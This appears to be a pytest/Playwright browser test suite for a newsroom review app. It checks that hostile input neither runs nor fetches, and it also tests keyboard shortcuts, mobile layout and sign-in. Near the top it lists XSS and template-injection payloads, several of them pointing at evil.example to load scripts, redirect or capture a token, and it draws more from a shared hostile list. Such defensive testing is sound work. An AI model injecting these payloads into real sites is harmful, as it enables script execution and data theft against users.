"""The desk in a real browser: nothing foreign runs or is fetched, keys work, both widths hold."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from contextlib import AbstractContextManager
from pathlib import Path
from typing import TYPE_CHECKING, Any, Protocol
from urllib.parse import quote, urlsplit

import pytest

from store import reviews
from store.polls import FeedState
from tests.chromium import NEEDS_CHROMIUM

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Request

    from tests.pages.conftest import DeskUp, Newsroom

    class Serve(Protocol):
        def __call__(self, room: Newsroom, **changes: Any) -> AbstractContextManager[DeskUp]: ...


pytestmark = NEEDS_CHROMIUM
SHARED = Path(
    os.environ.get("TORKHAM_SHARED", Path(__file__).resolve().parents[2].parent / "shared")
)
XSS_LIST = SHARED / "data" / "hostile" / "xss.json"

OWN_PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'><img src=//evil.example/p.png onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0; url=//evil.example/'>",
    "<form action=//evil.example/><input name=token>",
    "<a id=keys name=said href=//evil.example/>clobbered</a>",
    "</script><script src=//evil.example/x.js></script>",
    (
        "<math><mtext></table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>\u202calert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
)


@pytest.fixture
def up(full_room: Newsroom, desk_over: Serve) -> Iterator[DeskUp]:
    with desk_over(full_room) as desk:
        yield desk


class Witness:
    """Watches a page: every dialog, every script that ran, every request to another place."""

    def __init__(self, page: Page, home: str) -> None:
        self.home = urlsplit(home).netloc
        self.dialogs: list[str] = []
        self.outside: list[str] = []
        self.refused: list[str] = []
        page.on("dialog", self._dialog)
        page.on("request", self._request)
        page.on("console", lambda m: self.refused.append(m.text) if m.type == "error" else None)
        page.add_init_script(
            "window.__ran = [];"
            "for (const name of ['alert','confirm','prompt','print','open'])"
            " window[name] = (...x) => { window.__ran.push(name + ':' + x.join()); };"
        )

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        place = urlsplit(request.url)
        if place.netloc != self.home and place.scheme != "about":
            self.outside.append(request.url)


def payloads() -> list[str]:
    """Return our own list and 500 of the shared one, evenly drawn, where that is at hand."""
    if not XSS_LIST.exists():
        return list(OWN_PAYLOADS)
    shared = [row["p"] for row in json.loads(XSS_LIST.read_text())]
    return [*OWN_PAYLOADS, *shared[:: max(1, len(shared) // 500)][:500]]


def hostile_room(room: Newsroom) -> None:
    """Put every payload into every field a source can write; twenty bodies to an article."""
    held = payloads()
    for number, at in enumerate(range(0, len(held), 20)):
        some = held[at : at + 20]
        key = f"f{number}"
        room.feed(key, outlet=some[0], side=some[-1], section=some[1 % len(some)], note=some[-1])
        bad = FeedState(spec=room.specs[key], condition="failing", reason="".join(some), failures=3)
        room.poll(key, state=bad, outcome="other", detail=some[-1])
        room.article(
            key,
            " ".join(some[:7]),
            "\n".join(some),
            words=(some[0][:40],),
            author=some[2 % len(some)],
            language=some[-1][:20],
            topics=tuple(some[:2]),
            url=f"https://f{number}.example/?x={quote(some[0])}",
            summary=" ".join(some),
            published_original=some[0],
        )


def provoke(page: Page) -> None:
    """Do what a curious reader does: unfold everything, move over everything."""
    page.evaluate(
        """() => {
          for (const fold of document.querySelectorAll('details')) fold.open = true;
          const names = ['mouseover', 'focus', 'click', 'error', 'load', 'toggle'];
          for (const element of document.querySelectorAll('main *, .list *'))
            for (const name of names)
              if (!element.closest('a, button, summary, form') || name !== 'click')
                element.dispatchEvent(new Event(name, { bubbles: true }));
        }"""
    )


def test_nothing_a_source_writes_runs_or_is_fetched(
    newsroom: Newsroom, desk_over: Serve, browser: Browser
) -> None:
    """Every payload stands in title, text, author, outlet, summary, strand, feed error and note."""
    hostile_room(newsroom)
    articles = newsroom.count
    assert articles * 20 >= len(payloads())
    with desk_over(newsroom, canonical=lambda url: url) as desk:
        page = browser.new_page()
        witness = Witness(page, desk.url)
        paths = ["/", "/queue", "/coverage", "/coverage/f0", "/search?q=script", "/search?q=alert"]
        paths += [f"/articles/{n}" for n in range(1, articles + 1)]
        paths += [f"/queue?open={n}" for n in range(1, articles + 1, 4)]
        paths += [f"/search?q={quote(p)}" for p in OWN_PAYLOADS]
        paths += [f"/why?url={quote(p)}" for p in OWN_PAYLOADS]
        paths += [f"/why?url=https://f{n}.example/" for n in range(0, articles, 5)]
        for path in paths:
            page.goto(desk.url.rstrip("/") + path, wait_until="load")
            provoke(page)
            assert page.evaluate("window.__ran") == [], path
            assert urlsplit(page.url).netloc == witness.home, path
        assert witness.dialogs == []
        assert witness.outside == []
        assert witness.refused == []  # escaped text gives the policy nothing to refuse
        page.close()


def test_every_payload_stands_on_the_page_as_the_text_it_is(
    newsroom: Newsroom, desk_over: Serve, browser: Browser
) -> None:
    newsroom.article("frontier", OWN_PAYLOADS[0], "\n".join(OWN_PAYLOADS))
    with desk_over(newsroom) as desk:
        page = browser.new_page()
        page.goto(desk.url + "articles/1")
        assert page.inner_text("h1") == OWN_PAYLOADS[0]
        told = page.locator(".text p").all_text_contents()
        assert told == [p.replace("\u202e", "").replace("\u202c", "") for p in OWN_PAYLOADS]
        page.close()


def test_without_a_script_one_reads_decides_and_undoes(up: DeskUp, browser: Browser) -> None:
    page = browser.new_page(java_script_enabled=False)
    page.goto(up.url + "queue")
    first = page.inner_text("h1")
    page.get_by_role("button", name="Relevant", exact=False).first.click()
    assert first in page.inner_text("#result")
    assert page.inner_text("h1") != first
    page.get_by_role("button", name="Undo").first.click()
    assert page.inner_text("h1") == first
    page.close()


def test_single_keys_decide_undo_and_move(up: DeskUp, browser: Browser) -> None:
    page = browser.new_page()
    page.goto(up.url + "queue")
    first = page.inner_text("h1")
    with page.expect_navigation():
        page.keyboard.press("j")
    second = page.inner_text("h1")
    assert second != first
    with page.expect_navigation():
        page.keyboard.press("k")
    assert page.inner_text("h1") == first
    with page.expect_navigation():
        page.keyboard.press("n")
    assert page.inner_text("h1") == second
    said = page.locator("#said").filter(has_text="not relevant")
    said.wait_for(state="attached")  # told to a screen reader after the page is there
    with page.expect_navigation():
        page.keyboard.press("z")
    assert page.inner_text("h1") == first
    db = up.room.open()
    assert [line.answer for line in reviews.recent(db)].count("not_relevant") == 1
    db.close()
    page.close()


def test_keys_rest_while_one_types_and_can_be_turned_off(up: DeskUp, browser: Browser) -> None:
    page = browser.new_page()
    page.goto(up.url + "queue")
    page.locator("summary").get_by_text("Note", exact=True).click()
    page.locator("#note").fill("")
    page.keyboard.type("run u s n r")
    page.keyboard.press("Escape")
    page.locator("h1").click()
    page.keyboard.press("?")
    page.get_by_label("Turn single keys off").check()
    page.get_by_role("button", name="Close").click()
    page.keyboard.press("r")
    page.wait_for_timeout(200)
    db = up.room.open()
    assert not reviews.recent(db)
    db.close()
    page.close()


def test_on_a_telephone_nothing_is_cut_and_decisions_lie_at_the_thumb(
    up: DeskUp, browser: Browser
) -> None:
    page = browser.new_page(viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True)
    for path in ("queue", "articles/3", "", "coverage", "ledger", "search?q=talks", "judgement"):
        page.goto(up.url + path)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, path
    page.goto(up.url + "queue")
    box = page.get_by_role("button", name="Relevant").first.bounding_box()
    assert box is not None
    assert box["y"] > 640
    assert box["height"] >= 44
    assert not page.locator("#list").is_visible()
    page.locator(".to-list a").click()
    assert page.locator("#list").is_visible()
    page.locator("#list .lines a").nth(1).click()
    page.locator("#list").wait_for(state="hidden")
    page.close()


def test_the_text_keeps_its_measure_and_its_line_height(up: DeskUp, browser: Browser) -> None:
    page = browser.new_page(viewport={"width": 1280, "height": 800})
    page.goto(up.url + "articles/1")
    wide, ch = page.evaluate(
        """() => {
          const text = document.querySelector('.text'), probe = document.createElement('span');
          probe.textContent = '0'; text.append(probe);
          const width = probe.getBoundingClientRect().width; probe.remove();
          return [text.getBoundingClientRect().width, width];
        }"""
    )
    assert wide <= 66.5 * ch
    page.goto(up.url + "articles/3")
    heights = page.evaluate(
        """() => { const s = getComputedStyle(document.querySelector('.text p'));
          return [parseFloat(s.lineHeight) / parseFloat(s.fontSize), s.direction]; }"""
    )
    assert heights == [pytest.approx(1.9), "rtl"]
    page.close()


def test_a_link_from_elsewhere_keeps_one_signed_in(
    full_room: Newsroom, desk_over: Serve, browser: Browser
) -> None:
    with desk_over(full_room, people={"Rabia": "administrator"}) as desk:
        page = browser.new_page()
        page.goto(desk.url)
        page.get_by_label("Your name").fill("Rabia")
        page.get_by_label("Your password").fill("a long enough password")
        page.get_by_role("button", name="Sign in").click()
        assert "Rabia" in page.inner_text(".person")
        elsewhere = f"<a href='{desk.url}articles/1'>in the mail</a>"
        page.goto(f"data:text/html,{quote(elsewhere)}")
        page.get_by_text("in the mail").click()
        page.wait_for_selector("h1#headline")
        assert "Rabia" in page.inner_text(".person")
        page.close()
